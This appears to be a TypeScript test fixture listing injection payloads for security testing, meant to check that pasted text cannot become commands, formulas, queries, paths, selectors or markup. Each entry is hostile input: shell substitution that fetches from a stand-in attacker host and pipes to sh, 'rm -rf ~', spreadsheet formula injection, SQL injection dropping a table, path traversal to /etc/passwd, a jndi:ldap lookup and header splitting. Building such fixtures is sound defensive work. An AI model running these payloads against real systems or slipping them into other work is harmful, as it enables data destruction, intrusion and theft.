/** Texts that become commands, formulas, routes, selectors or queries where they are pasted into one. */

import { attacks, beacon } from './attack.ts'

export const injectionAttacks = attacks({
  'a command in a command': '$(curl https://beacon.attack.example/shell) `id` ; rm -rf ~ | sh && true',
  'the end of a quotation': `'; curl ${beacon}/quote; '`,
  'the end of another quotation': `" & calc & "`,
  'an option': '--help --output=/etc/passwd -rf',
  'a formula': '=HYPERLINK("https://beacon.attack.example","click")',
  'a command as a formula': "@SUM(1+1)*cmd|' /C calc'!A0",
  'another formula': '+1+cmd|calc\t-2+3\r\n=1+1',
  'a query of Azure': '"; union withsource=T * | take 10 //',
  'a query of Datadog': '*) OR (service:* -@x:"',
  'a query of X-Ray': '" } OR service() { "x',
  'a query of a database': "' OR 1=1; DROP TABLE spans; --",
  'a route': '#run=a/b&step=c&token=x',
  'a path upwards': '../../../../etc/passwd',
  'a path upwards, in escapes': '%2e%2e%2f%00#/?&=+%',
  'a selector': '"] , * { x: url(https://beacon.attack.example) } [a="',
  'a pattern that takes for ever': '(a+)+$ (.*a){25} ^(([a-z])+.)+[A-Z]([a-z])+$',
  'a text for it': 'a'.repeat(5_000) + '!',
  'a filter': 'model:* or (((((((-is:error and duration>1s',
  'brackets in a filter': '('.repeat(5_000),
  'a heading and a rule': '# owned\n---\n***\n| a | b |\n| - | - |',
  'the end of a fence': '```\n`````\n~~~\n# owned <script>window.__owned=1</script>',
  'a template': '%s %n %x %1$s {0} {} ${jndi:ldap://beacon.attack.example/a}',
  headers: 'x\r\nSet-Cookie: a=b\r\n\r\n<script>window.__owned=1</script>',
})
